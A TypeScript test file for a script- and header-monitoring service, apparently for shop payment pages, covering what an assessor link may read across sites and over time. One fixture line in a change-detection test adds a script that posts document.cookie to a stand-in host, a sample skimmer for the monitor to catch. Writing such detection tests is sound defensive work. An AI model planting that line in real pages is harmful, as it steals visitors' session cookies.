// What an assessor reads of decisions and of incidents on several sites: nothing later, and nothing of sites that the link does not cover.
import { randomUUID } from 'node:crypto'
import type { Discovery } from '@tillwatch/core/alerts'
import { createAssessorLinkSchema } from '@tillwatch/core/contract'
import { sql } from 'kysely'
import { expect, it } from 'vitest'
import { tell } from '#features/alerts/tell.ts'
import { createAssessorLink, openAssessorLink, readAlerts, readChanges, readHeaders, readSample } from '#features/assessors/index.ts'
import { claimSite } from '#features/sites/index.ts'
import { testKey } from '../../support/evidence-key.ts'
import { comparedWith, shop } from '../comparisons/compared-page.ts'
import { answer, decide } from '../headers/answered-page.ts'
import { context, decideOn, list, owner, pageId, siteId, test } from '../inventory/watched-page.ts'

const whole = () => ({ ...context(), evidenceKey: testKey(), evidenceMonths: 13 })
async function reader(siteIds: string[] | null) {
  const body = createAssessorLinkSchema.parse({ assessor: 'Example QSA', siteIds })
  const { url } = await createAssessorLink({ db: test.database.db, siteOrigin: () => 'https://tillwatch.example' }, owner, body)
  return openAssessorLink(whole(), new URL(url).hash.slice(1), '192.0.2.9')
}
const soon = () => new Date(Date.now() + 60_000).toISOString()

/** One incident of a vendor on each of the sites. */
async function incidentOn(siteIds: readonly string[]): Promise<void> {
  const found = siteIds.map(
    (site): Discovery => ({
      ...{
        source: 'change' as const,
        kind: 'script-changed',
        verdict: 'malicious' as const,
        siteId: site,
        pageId: null,
        scanId: null,
        changeId: randomUUID(),
      },
      subject: { code: 'named' as const, given: { name: `script of ${site}` } },
      reasons: [],
      script: { identity: `x ${site}`, isThirdParty: true, vendor: 'Tags', content: site },
    }),
  )
  await test.database.db.transaction().execute((trx) => tell(trx, owner.accountId, found))
}

it('tells of an incident on several sites only what is of those that the link covers', async () => {
  const other = await claimSite(context(), owner, { subscriptionId: null, url: 'https://secret.example/pay' })
  await incidentOn([other.id, siteId])
  const limited = await readAlerts(whole(), await reader([siteId]), siteId, { limit: 50, to: soon() })
  expect(limited).toMatchObject({ total: 1, incidents: [{ incident: { itemCount: 1, sites: ['shop.example'] }, items: [{ siteId }] }] })
  expect(limited.incidents[0]?.timeLine.map(({ event }) => event)).toContain('discovered')
  const sampled = await readSample(whole(), await reader([siteId]), { of: 'alerts', size: 5, to: soon() })
  for (const text of [limited, sampled].map((answer) => JSON.stringify(answer))) {
    expect(text).not.toContain('secret.example')
    expect(text).not.toContain(other.id)
  }
  expect((await readAlerts(whole(), await reader(null), siteId, { limit: 50, to: soon() })).incidents[0]?.items).toHaveLength(2)
})

it('shows with a change the first decision on its script since then, up to the end of the period', async () => {
  await comparedWith(shop)
  await comparedWith(`${shop}\nfetch('https://new.example/', { method: 'POST', body: document.cookie })`)
  const found = new Date().toISOString()
  await new Promise((done) => setTimeout(done, 5))
  await decideOn({ covers: 'scripts', scriptIds: (await list()).scripts.map(({ id }) => id) })
  const read = async (to?: string) => readChanges(whole(), await reader(null), siteId, { limit: 20, ...(to && { to }) })
  const [after, before] = [await read(soon()), await read(found)]
  const ids = after.comparisons.flatMap(({ changes }) => changes.map(({ id }) => id))
  expect(ids.length).toBeGreaterThan(0)
  expect(Object.values(after.decisions).map(({ verdict }) => verdict)).toContain('approve')
  expect(before.comparisons.flatMap(({ changes }) => changes.map(({ id }) => id))).toEqual(ids)
  expect(before.decisions).toEqual({})
})

it('shows the headers of a page as they stood at a moment, with the decisions and changes of before', async () => {
  const now = async () => {
    await new Promise((done) => setTimeout(done, 5))
    return new Date().toISOString()
  }
  const before = await now()
  const first = await answer({ 'strict-transport-security': 'max-age=1000' })
  const undecided = await now()
  await decide('approve', 'all')
  const decided = await now()
  await answer({ 'strict-transport-security': 'max-age=5' })
  const read = async (at?: string) => readHeaders(whole(), await reader([siteId]), pageId, { ...(at && { at }) })
  const told = async (at?: string) => {
    const { observed, parts, history } = await read(at)
    const shown = parts.filter(({ header }) => header === 'strict-transport-security')
    return [observed !== null, shown.map(({ value, state, decision }) => [value, state, decision?.verdict]), history.length]
  }
  expect(await told(before)).toEqual([false, [], 0])
  expect(await told(undecided)).toEqual([true, [['max-age=1000', 'new', undefined]], 1])
  expect(await told(decided)).toEqual([true, [['max-age=1000', 'authorized', 'approve']], 1])
  expect(await told()).toEqual([true, [['max-age=5', 'changed', 'approve']], 2])
  expect((await read(decided)).observed?.scanId).toBe(first)
  const { rows } = await sql<{ to: string }>`
    select details ->> 'to' as to from audit_log where account_id = ${owner.accountId} and details ->> 'part' = 'headers' order by at limit 1`.execute(
    test.database.db,
  )
  expect(rows).toEqual([{ to: before }])
})
